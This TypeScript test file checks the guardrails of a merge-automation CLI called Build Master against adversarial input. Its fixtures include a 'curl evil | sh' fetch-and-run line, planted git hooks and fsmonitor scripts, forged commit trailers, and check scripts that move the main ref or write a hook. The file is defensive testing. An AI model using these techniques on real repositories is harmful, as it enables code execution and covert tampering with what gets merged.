// Local mode guardrails through the built CLI, as an adversarial or careless
// user meets them: odd paths, planted hooks, spoofed trailers, lane wedges,
// the user's own checkout, and checks added to the policy.
import { strict as assert } from 'node:assert';
import { execFileSync, spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CLI, runCli, type CliResult } from '../support/cli';
import { Sandbox, threeLaneFiles } from '../support/sandbox';

interface SyncDoc {
  lanes: { name: string; state: string; queue: { change: string; reasons: { code: string; message: string }[] }[] }[];
  decisions: { kind: string; lane?: string; change?: string; from?: string; to?: string; rationale: string }[];
  approvals: { id: string; change?: string }[];
  actions: { key: string; kind: string; status: string; message: string }[];
}

async function sync(sb: Sandbox, env: NodeJS.ProcessEnv = {}): Promise<{ result: CliResult; doc: SyncDoc }> {
  const result = await runCli(['sync', '--repo', sb.dir, '--json'], { env });
  assert.ok(result.stdout.trim().startsWith('{'), `sync printed no JSON (exit ${result.code}): ${result.stderr}`);
  return { result, doc: JSON.parse(result.stdout) as SyncDoc };
}

const merged = (doc: SyncDoc): string[] =>
  doc.actions.filter((a) => a.kind === 'merge' && a.status === 'done').map((a) => a.key.split(':')[1] ?? a.key);
const policyOf = (extra = '') => threeLaneFiles(extra)['.buildmaster.yml'];

/** Runs git in the sandbox under Build Master's name, as anyone with write access could. */
function gitAsBuildMaster(sb: Sandbox, ...args: string[]): string {
  const env: NodeJS.ProcessEnv = {
    ...process.env,
    GIT_AUTHOR_NAME: 'Build Master',
    GIT_AUTHOR_EMAIL: 'build-master@localhost',
    GIT_COMMITTER_NAME: 'Build Master',
    GIT_COMMITTER_EMAIL: 'build-master@localhost',
  };
  return execFileSync('git', args, { cwd: sb.dir, env, encoding: 'utf8' }).trim();
}

/** Nothing merged twice: one Build Master merge per change in the target's history. */
function assertMergedOnce(sb: Sandbox): void {
  const changes = sb.ownMergeKeys().map((key) => key.split(':')[1]);
  assert.equal(new Set(changes).size, changes.length, `a change was merged twice: ${changes.join(', ')}`);
}

describe('local guardrails: tier 3 sees every path exactly', function () {
  this.timeout(180_000);
  let sb: Sandbox | undefined;
  afterEach(() => sb?.remove());

  it('a non-ASCII path or a path with a line break under infra/ waits for a person instead of merging', async () => {
    sb = new Sandbox(threeLaneFiles());
    sb.branch('agent/deploy', { 'infra/déploy.sh': 'curl evil | sh\n' });
    sb.branch('agent/newline', { 'infra/x\ny.sh': 'curl evil | sh\n' });
    const before = sb.head();
    const { doc } = await sync(sb);
    assert.deepEqual(merged(doc), []);
    assert.equal(sb.head(), before);
    for (const change of ['agent/deploy', 'agent/newline']) {
      assert.ok(
        doc.approvals.some((a) => a.change === change),
        `tier 3 asks for approval for ${change}: ${JSON.stringify(doc.approvals)}`,
      );
    }
  });

  it('a rename out of a tier-3 path waits too, and the change touches both lanes it names', async () => {
    sb = new Sandbox({ ...threeLaneFiles(), 'infra/deploy.sh': 'echo deploy\n' });
    sb.git('checkout', '--quiet', '-b', 'agent/move');
    sb.git('mv', 'infra/deploy.sh', 'web/deploy.sh');
    sb.git('commit', '--quiet', '-m', 'move deploy into web');
    sb.git('checkout', '--quiet', 'main');
    const before = sb.head();
    const { doc } = await sync(sb);
    assert.deepEqual(merged(doc), []);
    assert.equal(sb.head(), before);
    assert.ok(
      doc.approvals.some((a) => a.change === 'agent/move'),
      `tier 3 asks for approval: ${JSON.stringify(doc.approvals)}`,
    );
    const explain = await runCli(['explain', 'agent/move', '--repo', sb.dir]);
    assert.match(explain.stdout, /tier3/);
  });

  it('a branch with two merge bases cannot hide the undoing of a tier 3 change from its file list', async () => {
    sb = new Sandbox({ ...threeLaneFiles('merge:\n  method: merge\n'), 'infra/x': 'orig\n' });
    sb.branch('agent/y', { 'infra/x': 'approved\n' });
    // agent/x is committed a second later, so git lists it first among the merge bases below.
    await new Promise((done) => setTimeout(done, 1100));
    sb.branch('agent/x', { 'web/x': 'x\n' });
    const first = await sync(sb);
    assert.deepEqual(merged(first.doc), ['agent/x']);
    const approval = first.doc.approvals.find((a) => a.change === 'agent/y');
    assert.ok(approval, 'the infra change asks for approval');
    assert.equal((await runCli(['approve', approval.id, '--repo', sb.dir])).code, 0);
    assert.deepEqual(merged((await sync(sb)).doc), ['agent/y']);
    // agent/h merges both branches (two merge bases with main), then undoes the approved infra change.
    sb.git('checkout', '--quiet', '-b', 'agent/h', 'agent/x');
    sb.git('merge', '--quiet', '--no-ff', '--no-edit', 'agent/y');
    sb.write({ 'infra/x': 'orig\n', 'web/evil': 'evil\n' });
    sb.git('add', '-A');
    sb.git('commit', '--quiet', '--amend', '--no-edit');
    sb.git('checkout', '--quiet', 'main');
    const { doc } = await sync(sb);
    assert.deepEqual(merged(doc), [], 'it does not merge on its own');
    assert.equal(sb.git('show', 'main:infra/x'), 'approved');
    assert.match(sb.git('merge-base', '--all', 'main', 'agent/h'), /\n/, 'two merge bases');
    assert.ok(
      doc.approvals.some((a) => a.change === 'agent/h'),
      `it waits for a person as tier 3: ${JSON.stringify(doc.approvals)}`,
    );
  });

  it('a path with a space, a quote and a newline lands in its lane', async () => {
    sb = new Sandbox(threeLaneFiles());
    sb.branch('agent/odd', { 'api/we "ird"\nname.txt': 'x\n' });
    const { doc } = await sync(sb);
    assert.deepEqual(merged(doc), ['agent/odd']);
    assert.equal(doc.decisions.find((d) => d.kind === 'merge' && d.change === 'agent/odd')?.lane, 'api');
  });
});

describe('local guardrails: Build Master runs no hook or program planted in the repository', function () {
  this.timeout(180_000);
  let sb: Sandbox | undefined;
  afterEach(() => sb?.remove());

  it('hooks and an fsmonitor planted in .git never run inside its merges, checks, fixes and reverts', async () => {
    sb = new Sandbox({ ...threeLaneFiles(), 'scripts/fixer.sh': 'cat > /dev/null\necho "attempt $BUILDMASTER_ATTEMPT" > web/note.txt\n' });
    sb.branch('agent/api-1', { 'api/one.txt': '1\n' });
    sb.branch('agent/web-bad', { 'web/status': 'bad\n' });
    sb.git('merge', '--quiet', '--no-ff', '-m', "Merge branch 'agent/web-bad'", 'agent/web-bad');
    const marker = join(sb.dir, '.git', 'PLANTED-RAN');
    const script = join(sb.dir, '.git', 'planted.sh');
    writeFileSync(script, `#!/bin/sh\necho "$0 $*" >> '${marker}'\n`);
    chmodSync(script, 0o755);
    for (const hook of [
      'pre-commit',
      'prepare-commit-msg',
      'commit-msg',
      'post-commit',
      'post-merge',
      'post-checkout',
      'post-rewrite',
      'reference-transaction',
      'pre-auto-gc',
      'post-index-change',
    ]) {
      writeFileSync(join(sb.dir, '.git', 'hooks', hook), `#!/bin/sh\necho "${hook}" >> '${marker}'\n`);
      chmodSync(join(sb.dir, '.git', 'hooks', hook), 0o755);
    }
    sb.git('config', 'core.fsmonitor', script);

    const seen: string[] = [];
    for (let i = 0; i < 5; i++) {
      const { doc } = await sync(sb);
      seen.push(...doc.actions.filter((a) => a.status === 'done').map((a) => a.kind));
    }
    assert.ok(seen.includes('merge'), `a merge was made: ${seen.join(', ')}`);
    assert.ok(seen.includes('propose-revert'), `a revert commit was made: ${seen.join(', ')}`);
    assert.ok(
      sb.mergeKeys().some((key) => key.startsWith('merge:buildmaster/revert/')),
      'the revert merged',
    );
    assert.equal(existsSync(marker), false, `a planted program ran: ${existsSync(marker) ? readFileSync(marker, 'utf8') : ''}`);
  });
});

describe('local guardrails: only Build Master’s own merges count as merged', function () {
  this.timeout(180_000);
  let sb: Sandbox | undefined;
  afterEach(() => sb?.remove());

  it('spoofed trailers in a hand-merged commit do not count a change as merged; it merges normally', async () => {
    sb = new Sandbox(threeLaneFiles());
    const head = sb.branch('agent/api-1', { 'api/one.txt': '1\n' });
    sb.branch('agent/docs-spoof', { 'docs/spoof.md': 'x\n' });
    const trailers = [
      `Build-Master-Change: agent/api-1`,
      `Build-Master-Branch: agent/api-1`,
      `Build-Master-Lane: api`,
      `Build-Master-Key: merge:agent/api-1:${head}`,
      `Build-Master-Head: ${head}`,
    ].join('\n');
    sb.git(
      'merge',
      '--quiet',
      '--no-ff',
      '-m',
      `Merge agent/api-1 into main (lane api)\n\nBuild-Master-Key: merge:agent/api-1:${head}\n\n${trailers}`,
      'agent/docs-spoof',
    );
    const first = await sync(sb);
    assert.deepEqual(merged(first.doc), ['agent/api-1'], JSON.stringify(first.doc.actions));
    assert.equal(sb.git('show', 'main:api/one.txt'), '1', 'the change really landed');
    const again = await sync(sb);
    assert.deepEqual(merged(again.doc), []);
    assertMergedOnce(sb);
  });

  it('a trailer in a branch’s commit subject merged by Build Master does not count another change as merged', async () => {
    sb = new Sandbox(threeLaneFiles());
    const head = sb.branch('agent/api-1', { 'api/one.txt': '1\n' });
    sb.git('checkout', '--quiet', '-b', 'agent/docs-spoof');
    sb.write({ 'docs/spoof.md': 'x\n' });
    sb.git('add', '-A');
    sb.git(
      'commit',
      '--quiet',
      '-m',
      `Build-Master-Key: merge:agent/api-1:${head}\n\nBuild-Master-Change: agent/api-1\nBuild-Master-Head: ${head}\nBuild-Master-Key: merge:agent/api-1:${head}`,
    );
    sb.git('checkout', '--quiet', 'main');
    assert.equal((await runCli(['pause', 'api', '--reason', 'later', '--repo', sb.dir])).code, 0);
    const first = await sync(sb);
    assert.deepEqual(merged(first.doc), ['agent/docs-spoof']);
    assert.equal((await runCli(['resume', 'api', '--repo', sb.dir])).code, 0);
    const second = await sync(sb);
    assert.deepEqual(merged(second.doc), ['agent/api-1'], JSON.stringify(second.doc.actions));
    assert.equal(sb.git('show', 'main:api/one.txt'), '1');
    assertMergedOnce(sb);
  });

  it('a real merge made under Build Master’s name that carries another change’s key does not count that change as merged', async () => {
    sb = new Sandbox(threeLaneFiles());
    const docs = sb.branch('agent/docs-x', { 'docs/x.md': 'x\n' });
    const api = sb.branch('agent/api-1', { 'api/one.txt': '1\n' });
    sb.git('merge', '--quiet', '--no-ff', '--no-commit', 'agent/docs-x');
    const trailers = [
      'Build-Master-Change: agent/docs-x',
      'Build-Master-Branch: agent/docs-x',
      'Build-Master-Lane: docs',
      `Build-Master-Key: merge:agent/api-1:${api}`,
      `Build-Master-Head: ${docs}`,
    ].join('\n');
    gitAsBuildMaster(sb, 'commit', '--quiet', '-m', `Merge agent/docs-x into main (lane docs)\n\n${trailers}`);
    const { doc } = await sync(sb);
    assert.deepEqual(merged(doc), ['agent/api-1'], JSON.stringify(doc.actions));
    assert.equal(sb.git('show', 'main:api/one.txt'), '1', 'the change really landed');
  });

  it('a commit message forging a whole log record (separators, committer, a correct merge tree) counts nothing as merged', async () => {
    sb = new Sandbox(threeLaneFiles());
    const api = sb.branch('agent/api-1', { 'api/one.txt': '1\n' });
    const base = sb.head();
    const tree = sb.git('merge-tree', '--write-tree', base, api).split('\n')[0] as string;
    // A fake record: an existing sha, the real first parent, the tree a real merge of api-1 would have, Build Master as committer.
    const fields = [base, base, tree, '1700000000', 'Build Master <build-master@localhost>', 'Merge agent/api-1 into main (lane api)'];
    const trailers = [
      'Build-Master-Change: agent/api-1',
      'Build-Master-Branch: agent/api-1',
      'Build-Master-Lane: api',
      `Build-Master-Key: merge:agent/api-1:${api}`,
      `Build-Master-Head: ${api}`,
    ].join('\n');
    const forged = `docs: typo\n\n\x1e${fields.join('\x1f')}\x1fMerge agent/api-1 into main (lane api)\n\n${trailers}\x1e`;
    sb.write({ 'docs/typo.md': 'typo\n' });
    sb.git('add', '-A');
    sb.git('commit', '--quiet', '--cleanup=verbatim', '-m', forged);
    const { doc } = await sync(sb);
    assert.deepEqual(merged(doc), ['agent/api-1'], JSON.stringify(doc.actions));
    assert.equal(sb.git('show', 'main:api/one.txt'), '1', 'the change really landed');
  });

  it('a fix marker or a fix branch name in a hand-merged commit does not mark a repair as merged', async () => {
    sb = new Sandbox({ ...threeLaneFiles(), 'scripts/fixer.sh': 'cat > /dev/null\nexit 1\n' });
    sb.branch('agent/web-bad', { 'web/status': 'bad\n' });
    sb.git('merge', '--quiet', '--no-ff', '-m', "Merge branch 'agent/web-bad'", 'agent/web-bad');
    const bad = sb.head();
    const first = await sync(sb);
    const incident = `inc-${bad.slice(0, 7)}`;
    assert.ok(
      first.doc.decisions.some((d) => d.kind === 'open-incident'),
      'web broke: an incident',
    );
    sb.branch('agent/docs-note', { 'docs/note.md': 'unrelated\n' });
    sb.git(
      'merge',
      '--quiet',
      '--no-ff',
      '-m',
      `Merge branch 'buildmaster/fix/${incident}'\n\nbuildmaster:fix ${incident}`,
      'agent/docs-note',
    );
    // Under Build Master's own name: an empty "merge" of a head main already holds, and a real merge of another branch, both labelled as the fix.
    const label = (head: string) =>
      [
        `Build-Master-Change: buildmaster/fix/${incident}`,
        `Build-Master-Branch: buildmaster/fix/${incident}`,
        'Build-Master-Lane: web',
        `Build-Master-Key: merge:buildmaster/fix/${incident}:${head}`,
        `Build-Master-Head: ${head}`,
      ].join('\n');
    gitAsBuildMaster(
      sb,
      'commit',
      '--quiet',
      '--allow-empty',
      '-m',
      `Merge buildmaster/fix/${incident} into main (lane web)\n\n${label(bad)}`,
    );
    const other = sb.branch('agent/docs-other', { 'docs/other.md': 'other\n' });
    sb.git('merge', '--quiet', '--no-ff', '--no-commit', 'agent/docs-other');
    gitAsBuildMaster(sb, 'commit', '--quiet', '-m', `Merge buildmaster/fix/${incident} into main (lane web)\n\n${label(other)}`);
    const second = await sync(sb);
    const transitions = second.doc.decisions
      .filter((d) => d.kind === 'lane-transition' && d.lane === 'web')
      .map((d) => `${d.from}→${d.to}`);
    assert.ok(!transitions.some((t) => t.endsWith('→recovering')), `a spoofed repair moved web to recovering: ${transitions.join(', ')}`);
  });
});

describe('local guardrails: no lane wedges', function () {
  this.timeout(240_000);
  let sb: Sandbox | undefined;
  let scratch: string;
  beforeEach(() => {
    scratch = mkdtempSync(join(tmpdir(), 'bm-wedge-'));
  });
  afterEach(() => {
    sb?.remove();
    rmSync(scratch, { recursive: true, force: true });
  });

  it('a kill right after the target moved, then a kill during recovery: the lane keeps merging, nothing twice', async () => {
    const hang = join(scratch, 'hang');
    const started = join(scratch, 'started');
    sb = new Sandbox({
      ...threeLaneFiles(),
      'api/test.sh': `if [ -f '${hang}' ]; then touch '${started}'; sleep 120; fi\ngrep -qx ok api/status\n`,
    });
    sb.branch('agent/api-1', { 'api/one.txt': '1\n' });
    const killed = await runCli(['sync', '--repo', sb.dir], { env: { BUILDMASTER_TEST_CRASH_AT: 'after:update-ref' } });
    assert.equal(killed.signal, 'SIGKILL', killed.stderr);
    assert.equal(sb.git('show', 'main:api/one.txt'), '1', 'the target moved before the kill');

    // The recovering process is killed while it runs the post-merge checks of the merge it recovered.
    writeFileSync(hang, '');
    const child = spawn(process.execPath, [CLI, 'sync', '--repo', sb.dir], { stdio: 'ignore' });
    const exited = new Promise<void>((done) => child.on('close', () => done()));
    for (let i = 0; i < 600 && !existsSync(started); i++) await new Promise((done) => setTimeout(done, 100));
    assert.ok(existsSync(started), 'the recovering process reached its checks');
    child.kill('SIGKILL');
    await exited;
    rmSync(hang);

    sb.branch('agent/api-2', { 'api/two.txt': '2\n' });
    const landed: string[] = [];
    for (let i = 0; i < 3; i++) landed.push(...merged((await sync(sb)).doc));
    assert.deepEqual(landed, ['agent/api-2'], 'the other change merges; the first is never merged again');
    assert.equal(sb.git('show', 'main:api/two.txt'), '2');
    assertMergedOnce(sb);
  });

  it('state.json moved aside (as the error message advises): merged branches stay merged, the lane keeps merging', async () => {
    sb = new Sandbox(threeLaneFiles());
    sb.branch('agent/api-1', { 'api/one.txt': '1\n' });
    assert.deepEqual(merged((await sync(sb)).doc), ['agent/api-1']);
    renameSync(join(sb.stateDir, 'state.json'), join(sb.stateDir, 'state.json.aside'));
    sb.branch('agent/api-2', { 'api/two.txt': '2\n' });
    const landed: string[] = [];
    for (let i = 0; i < 3; i++) landed.push(...merged((await sync(sb)).doc));
    assert.deepEqual(landed, ['agent/api-2']);
    assertMergedOnce(sb);
    const last = await sync(sb);
    assert.deepEqual(last.doc.lanes.find((l) => l.name === 'api')?.queue, [], 'nothing waits in api');
  });

  it('a branch named __proto__ merges once and does not block its lane', async () => {
    sb = new Sandbox({
      ...threeLaneFiles(),
      '.buildmaster.yml': policyOf().replace('branches: ["agent/*"]', 'branches: ["agent/*", "__proto__", "constructor"]'),
    });
    sb.branch('__proto__', { 'api/proto.txt': 'p\n' });
    assert.deepEqual(merged((await sync(sb)).doc), ['__proto__']);
    sb.branch('agent/api-2', { 'api/two.txt': '2\n' });
    sb.branch('constructor', { 'docs/ctor.md': 'c\n' });
    const landed: string[] = [];
    for (let i = 0; i < 3; i++) {
      const { result, doc } = await sync(sb);
      assert.equal(result.code, 0, result.stderr);
      landed.push(...merged(doc));
    }
    assert.deepEqual(landed.sort(), ['agent/api-2', 'constructor']);
    assertMergedOnce(sb);
  });
});

describe('local guardrails: the user’s checkout moves with the target or not at all', function () {
  this.timeout(180_000);
  let sb: Sandbox | undefined;
  afterEach(() => sb?.remove());

  it('an untracked file in the way: nothing merges, the reason names it, and once it is gone the merge lands in the checkout too', async () => {
    sb = new Sandbox(threeLaneFiles());
    sb.branch('agent/web-new', { 'web/new.txt': 'from the branch\n' });
    sb.write({ 'web/new.txt': 'my own notes\n' });
    const before = sb.head();
    const { doc } = await sync(sb);
    assert.deepEqual(merged(doc), []);
    assert.equal(sb.head(), before);
    assert.match(JSON.stringify(doc), /would overwrite \\"web\/new\.txt\\", untracked in .*move or delete that file/);
    assert.equal(sb.git('status', '--porcelain'), '?? web/new.txt', 'the index and HEAD agree; only the user’s file is new');
    assert.equal(sb.read('web/new.txt'), 'my own notes\n');

    rmSync(join(sb.dir, 'web/new.txt'));
    const retry = await sync(sb);
    assert.deepEqual(merged(retry.doc), ['agent/web-new']);
    assert.equal(sb.git('status', '--porcelain'), '', 'the checkout matches the new target');
    assert.equal(sb.read('web/new.txt'), 'from the branch\n');
  });

  it('a user’s own staged revert of Build Master’s last merge is left as it is (it is no update a crash left behind)', async () => {
    sb = new Sandbox(threeLaneFiles());
    sb.branch('agent/web-a', { 'web/a.txt': 'a\n' });
    assert.deepEqual(merged((await sync(sb)).doc), ['agent/web-a']);
    sb.git('revert', '--no-commit', 'HEAD');
    const staged = sb.git('status', '--porcelain');
    assert.match(staged, /^D {2}web\/a\.txt$/m);
    const { result } = await sync(sb);
    assert.equal(sb.git('status', '--porcelain'), staged, `the staged revert is still there: ${result.stderr}`);
    assert.doesNotMatch(result.stderr, /finished updating the checkout/);
  });

  it('git busy in the checkout (index.lock): nothing merges until it is gone, and the checkout is never left behind the ref', async () => {
    sb = new Sandbox(threeLaneFiles());
    sb.branch('agent/api-1', { 'api/one.txt': '1\n' });
    const lock = join(sb.dir, '.git', 'index.lock');
    writeFileSync(lock, '');
    const before = sb.head();
    const { doc } = await sync(sb);
    assert.deepEqual(merged(doc), []);
    assert.equal(sb.head(), before);
    assert.match(JSON.stringify(doc), /index\.lock exists/);
    rmSync(lock);
    assert.equal(sb.git('status', '--porcelain'), '', 'HEAD and the index agree');
    assert.deepEqual(merged((await sync(sb)).doc), ['agent/api-1']);
    assert.equal(sb.git('status', '--porcelain'), '');
    assert.equal(sb.read('api/one.txt'), '1\n');
  });
});

describe('local guardrails: check results follow the policy’s checks', function () {
  this.timeout(180_000);
  let sb: Sandbox | undefined;
  let scratch: string;
  afterEach(() => {
    sb?.remove();
    rmSync(scratch, { recursive: true, force: true });
  });

  it('a check added to the policy runs (only it) before the next merge, and its failure blocks the merge', async () => {
    scratch = mkdtempSync(join(tmpdir(), 'bm-checks-'));
    const runs = join(scratch, 'api-runs');
    sb = new Sandbox({
      ...threeLaneFiles(),
      '.buildmaster.yml': policyOf().replace('merge: A4', 'merge: A3'),
      'api/test.sh': `echo run >> '${runs}'\ngrep -qx ok api/status\n`,
    });
    // The policy file is the operator's, outside the target's tree: editing it does not move the target.
    writeFileSync(join(sb.dir, '.git', 'info', 'exclude'), '.buildmaster.yml\n');
    sb.git('rm', '--quiet', '--cached', '.buildmaster.yml');
    sb.commitAll('policy kept outside the tree');
    sb.branch('agent/api-1', { 'api/one.txt': '1\n' });
    const first = await sync(sb);
    const approval = first.doc.approvals.find((a) => a.change === 'agent/api-1');
    assert.ok(approval, 'tier 2 at A3 asks for approval; the pre-merge checks have run');
    const apiRuns = readFileSync(runs, 'utf8').split('\n').filter(Boolean).length;

    // test-new passes on main and fails on the change's merge result.
    const policy = readFileSync(join(sb.dir, '.buildmaster.yml'), 'utf8').replace(
      '  check_timeout: 30s',
      '    - name: test-new\n      run: test ! -f api/one.txt\n  check_timeout: 30s',
    );
    writeFileSync(join(sb.dir, '.buildmaster.yml'), policy);
    assert.equal((await runCli(['approve', approval.id, '--repo', sb.dir])).code, 0);
    const before = sb.head();
    const second = await sync(sb);
    assert.deepEqual(merged(second.doc), [], 'the new required check fails: no merge');
    assert.equal(sb.head(), before);
    const state = JSON.parse(readFileSync(join(sb.stateDir, 'state.json'), 'utf8')) as {
      checks: Record<string, { runs: { name: string; conclusion: string }[] }>;
    };
    assert.ok(
      Object.values(state.checks).some((c) => c.runs.some((r) => r.name === 'test-new' && r.conclusion === 'failure')),
      'test-new ran and failed',
    );
    assert.equal(
      readFileSync(runs, 'utf8').split('\n').filter(Boolean).length - apiRuns,
      0,
      'only the new check ran: test-api was not run again on the change or the target',
    );

    writeFileSync(join(sb.dir, '.buildmaster.yml'), policy.replace('run: test ! -f api/one.txt', 'run: test -d api'));
    const third = await sync(sb);
    assert.deepEqual(
      merged(third.doc),
      ['agent/api-1'],
      `the edited check ran again and passed: ${JSON.stringify(third.doc.actions)} ${JSON.stringify(third.doc.lanes)}`,
    );
    assert.equal(
      readFileSync(runs, 'utf8').split('\n').filter(Boolean).length - apiRuns,
      1,
      'test-api ran once more: on the merge commit only, never again on the tree it had passed',
    );

    // The variables a check is given are part of its definition too.
    writeFileSync(
      join(sb.dir, '.buildmaster.yml'),
      policy
        .replace('run: test ! -f api/one.txt', 'run: test -d api')
        .replace('  check_timeout: 30s', '  check_timeout: 30s\n  env: [BM_TEST_VARIABLE]'),
    );
    await sync(sb);
    assert.equal(
      readFileSync(runs, 'utf8').split('\n').filter(Boolean).length - apiRuns,
      2,
      'test-api ran again on the target once local.env changed',
    );
  });
});

describe('local guardrails: a check cannot reach outside its worktree', function () {
  this.timeout(180_000);
  let sb: Sandbox | undefined;
  afterEach(() => sb?.remove());

  it('a check that marks a file skip-worktree in the reused check worktree cannot make the next change pass', async () => {
    sb = new Sandbox(threeLaneFiles());
    // docs' check hides web's test behind skip-worktree and replaces it with `exit 0`.
    sb.branch('agent/docs-evil', {
      'docs/test.sh': 'git update-index --skip-worktree web/test.sh\necho "exit 0" > web/test.sh\ntest -s docs/index.md\n',
    });
    sb.branch('agent/web-broken', { 'web/status': 'broken\n' });
    for (let cycle = 0; cycle < 3; cycle++) await sync(sb);
    assert.equal(sb.git('show', 'main:web/status'), 'ok', 'the broken web change never merged');
  });

  it('a change whose own check moves the target or plants a hook is refused, and the target is put back', async () => {
    sb = new Sandbox(threeLaneFiles());
    // The change rewrites web's check: it "passes" after moving main to the commit under test.
    sb.branch('agent/web-evil', { 'web/test.sh': 'git update-ref refs/heads/main HEAD\nexit 0\n', 'web/evil.txt': 'evil\n' });
    sb.branch('agent/api-hook', {
      'api/test.sh': 'printf "#!/bin/sh\\ntouch /tmp/never\\n" > "$(git rev-parse --git-common-dir)/hooks/post-merge"\nexit 0\n',
    });
    const before = sb.head();
    const { doc, result } = await sync(sb);
    assert.deepEqual(merged(doc), [], result.stderr);
    assert.equal(sb.head(), before, 'main is where it was: the move was undone');
    assert.ok(!sb.git('ls-tree', '-r', '--name-only', 'main').split('\n').includes('web/evil.txt'));
    assert.match(result.stderr, /a check changed the repository outside its worktree \(refs\/heads\/main moved/);
    assert.match(result.stderr, /hooks\/post-merge changed/);
    const web = doc.lanes.find((l) => l.name === 'web')?.queue.find((q) => q.change === 'agent/web-evil');
    assert.ok(
      web?.reasons.some((r) => r.code === 'check-failing'),
      JSON.stringify(web?.reasons),
    );
  });
});
